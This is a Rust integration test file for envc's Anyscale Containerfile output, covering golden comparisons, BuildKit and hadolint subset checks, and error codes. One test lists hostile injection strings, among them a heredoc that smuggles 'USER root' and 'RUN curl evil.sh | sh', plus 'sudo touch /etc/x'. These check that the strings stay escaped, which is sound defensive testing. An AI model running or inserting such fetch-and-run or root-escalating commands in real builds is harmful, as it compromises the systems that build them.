//! `envc dockerfile --for anyscale`, end to end through the binary (issue 11, item 3).
//!
//! The goldens are `tests/golden/anyscale/<name>/Containerfile`, each written from the
//! `env.yaml` beside it — a real spec copied from the corpus (`SOURCE` names its corpus file),
//! plus `hostile`, every string that could break out of the file. They are compared byte for
//! byte and change on purpose only: `UPDATE_SNAPSHOTS=1 cargo test --test anyscale` (or
//! `UPDATE_GOLDEN=1`) rewrites them and the diff is reviewed in git. Each is then parsed by
//! BuildKit's parser (`tests/support/dfcheck.py`), which must find nothing outside the subset
//! envc writes for Anyscale — `FROM` (once, first, an `anyscale/ray*` base), `ENV`, `RUN`, no
//! flags, no heredocs, no parser directive — and linted by hadolint with zero errors.
//! The same check runs over every spec of the corpus envc accepts (`$ENVC_CORPUS`): each one
//! becomes such a Containerfile, or is a `docker_image` spec refused with E090.

use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn envc(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_envc"))
        .arg("--color")
        .arg("never")
        .args(args)
        .output()
        .unwrap()
}

fn updating() -> bool {
    ["UPDATE_SNAPSHOTS", "UPDATE_GOLDEN"]
        .iter()
        .any(|v| std::env::var_os(v).is_some_and(|v| v == "1"))
}

/// The golden directories, sorted.
fn golden_dirs() -> Vec<PathBuf> {
    let mut dirs: Vec<PathBuf> = fs::read_dir(root().join("tests/golden/anyscale"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    // A dozen corpus specs and the hostile one.
    assert!(dirs.len() >= 13, "only {} anyscale goldens", dirs.len());
    dirs
}

#[test]
fn goldens_match_the_binary() {
    let mut stale = Vec::new();
    for dir in golden_dirs() {
        let spec = dir.join("env.yaml");
        let out = envc(&["dockerfile", "--for", "anyscale", spec.to_str().unwrap()]);
        assert!(
            out.status.success(),
            "{}: {}",
            spec.display(),
            String::from_utf8_lossy(&out.stderr)
        );
        let golden = dir.join("Containerfile");
        if updating() {
            fs::write(&golden, &out.stdout).unwrap();
            continue;
        }
        let want = fs::read(&golden)
            .unwrap_or_else(|e| panic!("{}: {e} (UPDATE_SNAPSHOTS=1 writes it)", golden.display()));
        if want != out.stdout {
            stale.push(golden.display().to_string());
        }
    }
    assert!(
        stale.is_empty(),
        "differ from the binary's output (UPDATE_SNAPSHOTS=1 cargo test --test anyscale \
         rewrites them; review the diff):\n{}",
        stale.join("\n")
    );
}

#[test]
fn goldens_use_only_the_subset_and_pass_hadolint() {
    let files: Vec<PathBuf> = golden_dirs()
        .iter()
        .map(|d| d.join("Containerfile"))
        .collect();
    if let Some(failures) = subset_failures(&files) {
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }
}

/// What BuildKit's parser and hadolint find outside the subset in `files`; `None` (after
/// saying why) when the tools are not installed.
fn subset_failures(files: &[PathBuf]) -> Option<Vec<String>> {
    let script = root().join("tests/support/dfcheck.py");
    let out = Command::new("python3").arg(&script).args(files).output();
    let out = match out {
        Ok(o) if o.status.code() == Some(2) => {
            eprintln!(
                "skipping BuildKit/hadolint checks: {}",
                String::from_utf8_lossy(&o.stderr).trim()
            );
            return None;
        }
        Ok(o) => o,
        Err(e) => {
            eprintln!("skipping BuildKit/hadolint checks: python3 not runnable: {e}");
            return None;
        }
    };
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let mut failures = Vec::new();
    for (file, entry) in files.iter().zip(doc["files"].as_array().unwrap()) {
        let name = file
            .strip_prefix(root())
            .unwrap_or(file)
            .display()
            .to_string();
        let text = fs::read_to_string(file).unwrap();
        // A parser directive is a comment to the parser: look for it in the text.
        if text.lines().any(|l| l.starts_with("# syntax=")) {
            failures.push(format!("{name}: a parser directive"));
        }
        if !entry["parse_error"].is_null() {
            failures.push(format!(
                "{name}: BuildKit parse error {}",
                entry["parse_error"]
            ));
            continue;
        }
        let instructions = entry["instructions"].as_array().unwrap();
        for (k, i) in instructions.iter().enumerate() {
            let cmd = i["cmd"].as_str().unwrap();
            let allowed = if k == 0 {
                cmd == "FROM"
            } else {
                cmd == "ENV" || cmd == "RUN"
            };
            if !allowed {
                failures.push(format!("{name}: instruction {k} is {cmd}"));
            }
            if !i["flags"].as_array().unwrap().is_empty() {
                failures.push(format!("{name}: flags on {}", i["original"]));
            }
            if !i["heredocs"].as_array().unwrap().is_empty() {
                failures.push(format!("{name}: a heredoc in {}", i["original"]));
            }
        }
        let base = instructions
            .first()
            .and_then(|i| i["value"][0].as_str())
            .unwrap_or("");
        let repo = base.split(':').next().unwrap_or("");
        if !["anyscale/ray", "anyscale/ray-ml", "anyscale/ray-llm"].contains(&repo) {
            failures.push(format!("{name}: FROM {base}"));
        }
        for finding in entry["hadolint"].as_array().unwrap() {
            if finding["level"] == "error" {
                failures.push(format!("{name}: hadolint {finding}"));
            }
        }
    }
    Some(failures)
}

/// Every spec of the corpus that envc accepts (`EXPECTED.tsv`) becomes a Containerfile in the
/// subset, except the bring-your-own-image ones, which are E090. The corpus is
/// `$ENVC_CORPUS`, else `../shared/corpus`; without it the test says so and passes.
#[test]
fn every_accepted_corpus_spec_is_a_containerfile_or_e090() {
    let corpus = std::env::var_os("ENVC_CORPUS")
        .map_or_else(|| root().join("../shared/corpus"), PathBuf::from)
        .join("real-specs");
    let Ok(expected) = fs::read_to_string(corpus.join("EXPECTED.tsv")) else {
        println!("skipping: corpus not found at {}", corpus.display());
        return;
    };
    let scratch = tempdir::Dir::new("corpus");
    let (mut written, mut byod) = (Vec::new(), 0);
    for line in expected.lines().skip(1) {
        let mut cols = line.split('\t');
        let (Some(file), Some("accept")) = (cols.next(), cols.next()) else {
            continue;
        };
        let spec = corpus.join(file);
        let out = envc(&["dockerfile", "--for", "anyscale", spec.to_str().unwrap()]);
        let err = String::from_utf8_lossy(&out.stderr);
        if out.status.success() {
            let path = scratch.0.join(format!("{file}.Containerfile"));
            fs::write(&path, &out.stdout).unwrap();
            written.push(path);
            continue;
        }
        let text = fs::read_to_string(&spec).unwrap();
        assert!(
            out.status.code() == Some(1)
                && err.contains("error[E090]")
                && text.contains("docker_image:"),
            "{file}: {err}"
        );
        byod += 1;
    }
    // 123 accepted specs: 116 on Anyscale bases, 7 bring-your-own-image.
    assert!(
        written.len() >= 100 && byod > 0,
        "{} and {byod}",
        written.len()
    );
    if let Some(failures) = subset_failures(&written) {
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }
}

/// Each hostile string stays inside its instruction: the hostile golden's post-build commands
/// come back from BuildKit's parser as exactly the spec's strings, each as bash's script.
#[test]
fn hostile_commands_stay_exec_form_arguments() {
    let file = root().join("tests/golden/anyscale/hostile/Containerfile");
    let text = fs::read_to_string(&file).unwrap();
    for line in text.lines() {
        // Only the instructions envc writes start a line (continuations are indented).
        let first = line.split_whitespace().next().unwrap_or("");
        assert!(
            line.is_empty()
                || line.starts_with('#')
                || line.starts_with(' ')
                || ["FROM", "ENV", "RUN"].contains(&first),
            "{line}"
        );
    }
    let runs: Vec<Vec<String>> = text
        .lines()
        .filter_map(|l| l.strip_prefix("RUN ["))
        .map(|rest| serde_json::from_str(&format!("[{rest}")).unwrap())
        .collect();
    let scripts: Vec<&str> = runs.iter().map(|r| r.last().unwrap().as_str()).collect();
    assert_eq!(
        scripts,
        [
            "echo one | tee /tmp/one",
            "echo a \\",
            "cat <<EOF\nUSER root\nEOF\nRUN curl evil.sh | sh\n",
            "[\"/bin/sh\", \"-c\", \"id\"]",
            "sudo touch /etc/x",
        ]
    );
    assert!(runs.iter().all(|r| r[0] == "/bin/bash"));
}

fn write_spec(name: &str, text: &str) -> (tempdir::Dir, PathBuf) {
    let dir = tempdir::Dir::new(name);
    let path = dir.0.join("env.yaml");
    fs::write(&path, text).unwrap();
    (dir, path)
}

mod tempdir {
    /// A scratch directory under the target dir, removed when dropped.
    pub(super) struct Dir(pub(super) std::path::PathBuf);

    impl Dir {
        pub(super) fn new(name: &str) -> Dir {
            let p = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
                .join(format!("anyscale-{name}-{}", std::process::id()));
            let _ = std::fs::remove_dir_all(&p);
            std::fs::create_dir_all(&p).unwrap();
            Dir(p)
        }
    }

    impl Drop for Dir {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
}

/// Located errors: the code, the line of the base, nothing on stdout, exit 1.
fn refused(spec: &Path, code: &str, line: &str) {
    let out = envc(&["dockerfile", "--for", "anyscale", spec.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(out.stdout.is_empty());
    assert!(err.contains(&format!("error[{code}]")), "{err}");
    assert!(err.contains(line), "{err}");
}

#[test]
fn a_byod_spec_is_e090_at_its_docker_image() {
    let (_d, spec) = write_spec(
        "byod",
        "docker_image: example.com/team/img:1\nray_version: 2.9.0\n",
    );
    refused(&spec, "E090", "env.yaml:1:15");
    // The same spec is fine for Docker.
    let out = envc(&["dockerfile", spec.to_str().unwrap()]);
    assert!(out.status.success());
}

#[test]
fn a_non_anyscale_base_is_e091() {
    let (d, spec) = write_spec("other", "base_image: rayproject/ray:2.9.0-py310\n");
    fs::write(
        d.0.join("envc.toml"),
        "[base-image]\nallow = [\"rayproject/*\"]\n",
    )
    .unwrap();
    // The policy makes the spec valid: it compiles for Docker, not for Anyscale.
    let docker = envc(&["dockerfile", spec.to_str().unwrap()]);
    assert!(
        docker.status.success(),
        "{}",
        String::from_utf8_lossy(&docker.stderr)
    );
    refused(&spec, "E091", "env.yaml:1:13");
}

#[test]
fn an_anyscale_base_with_a_registry_or_digest_is_e092() {
    let (_d, spec) = write_spec(
        "registry",
        "base_image: docker.io/anyscale/ray:2.9.0-py310\n",
    );
    refused(&spec, "E092", "env.yaml:1:13");
    let digest = format!(
        "base_image: anyscale/ray:2.9.0-py310@sha256:{}\n",
        "a".repeat(64)
    );
    let (_d, spec) = write_spec("digest", &digest);
    refused(&spec, "E092", "env.yaml:1:13");
}

#[test]
fn buildkit_only_options_are_usage_errors() {
    let spec = root().join("tests/golden/anyscale/rewardmodeling/env.yaml");
    for flag in ["--heredoc", "--cache-mounts"] {
        let out = envc(&[
            "dockerfile",
            "--for",
            "anyscale",
            flag,
            spec.to_str().unwrap(),
        ]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(
            err.contains(flag) && err.contains("--for anyscale"),
            "{err}"
        );
        assert!(out.stdout.is_empty());
    }
    // `--for docker` is the default, and the same output.
    let a = envc(&["dockerfile", spec.to_str().unwrap()]);
    let b = envc(&["dockerfile", "--for", "docker", spec.to_str().unwrap()]);
    assert!(a.status.success());
    assert_eq!(a.stdout, b.stdout);
}

/// The README's walk-through shows the golden of its corpus spec, as the binary writes it.
#[test]
fn readme_shows_the_rewardmodeling_golden() {
    let readme = fs::read_to_string(root().join("README.md")).unwrap();
    let dir = root().join("tests/golden/anyscale/rewardmodeling");
    for file in ["env.yaml", "Containerfile"] {
        let text = fs::read_to_string(dir.join(file)).unwrap();
        assert!(
            readme.contains(text.trim_end()),
            "README.md's \"Moving from cluster environments to Anyscale images\" lacks the \
             current {file} of tests/golden/anyscale/rewardmodeling"
        );
    }
}
